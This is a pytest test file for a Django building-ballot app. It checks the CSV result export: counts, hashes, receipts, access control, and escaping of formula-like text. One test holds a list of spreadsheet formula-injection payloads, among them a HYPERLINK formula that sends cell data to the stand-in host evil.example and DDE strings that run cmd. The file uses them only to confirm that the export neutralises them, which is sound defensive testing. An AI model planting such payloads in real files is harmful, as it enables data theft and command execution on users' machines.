import csv
import io

import pytest
from django.urls import reverse

from decisions import exports, selectors, services
from decisions.models import Ballot, Option
from decisions.services.ballots import OptionSpec
from tests.decisions.factories import choices, close_count_publish, make_building_of_households, make_open_ballot
from tests.factories import make_organizer

pytestmark = pytest.mark.django_db


def test_result_export_carries_counts_verdict_heads_and_receipts():
    ballot, organizer, voters = make_open_ballot(rule=Ballot.Rule.ART278, areas=["90", "80", "70", "60"])
    for voter in voters[:3]:
        services.vote_cast(ballot=ballot, voter=voter, choices=choices(ballot, "yes"))
    close_count_publish(ballot, organizer)
    rows = list(csv.reader(io.StringIO(exports.result_csv(ballot).text().lstrip("\ufeff"))))
    flat = [cell for row in rows for cell in row]
    assert ["加装电梯", "同意", "3", "240.00"] in rows
    assert ballot.snapshot_hash in flat
    for head in list(ballot.heads_at_open.values()) + list(ballot.heads_at_close.values()):
        assert head["hash"] in flat
    for code in selectors.counted_receipts(ballot):
        assert [code] in rows
    assert any(cell == "passed" for cell in flat)


def test_result_export_refuses_an_unpublished_ballot():
    ballot, _organizer, _voters = make_open_ballot()
    with pytest.raises(ValueError):
        exports.result_csv(ballot)


def test_result_export_is_downloadable_once_published_and_only_by_viewers(client):
    from tests.factories import make_committee

    ballot, organizer, voters = make_open_ballot()
    url = reverse("decisions:ballot_export", args=[ballot.pk])
    client.force_login(voters[0])
    assert client.get(url).status_code == 404  # not published yet
    services.vote_cast(ballot=ballot, voter=voters[0], choices=choices(ballot, "yes"))
    close_count_publish(ballot, organizer)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert ballot.title in response.content.decode()
    client.force_login(make_organizer(make_committee()))
    assert client.get(url).status_code == 404


PAYLOADS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "  =1+1", "\t=1+1", "\r=1+1", "＝1+1"]


def test_result_export_escapes_every_formula_like_title_question_and_option(client):
    building, reps = make_building_of_households(3)
    committee = building.compound.committee
    organizer = make_organizer(committee)
    ballot = services.ballot_create(committee=committee, by=organizer, title=PAYLOADS[0], question=PAYLOADS[1],
                                    secrecy=Ballot.Secrecy.NAMED, electorate=Ballot.Electorate.HOUSEHOLDS,
                                    building=building)
    services.question_add(ballot=ballot, by=organizer, text=PAYLOADS[2], options=[
        OptionSpec(PAYLOADS[3], meaning=Option.Meaning.OTHER), OptionSpec(PAYLOADS[4]), OptionSpec(PAYLOADS[5]),
        OptionSpec(PAYLOADS[6]), OptionSpec(PAYLOADS[7])])
    services.ballot_open(ballot=ballot, by=organizer)
    second = ballot.questions.order_by("position").last()
    services.vote_cast(ballot=ballot, voter=reps[0], choices={
        **choices(ballot, "yes"), second.pk: [second.options.order_by("position").first().pk]})
    close_count_publish(ballot, organizer)
    client.force_login(organizer)
    response = client.get(reverse("decisions:ballot_export", args=[ballot.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload  # every payload is there, as text
    assert not [c for c in cells if c.lstrip()[:1] in ("=", "+", "-", "@", "＝") and not _number(c)], cells
    assert ["'" + PAYLOADS[1], "同意", "1"] in [row[:3] for row in rows]  # counts stay numbers


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
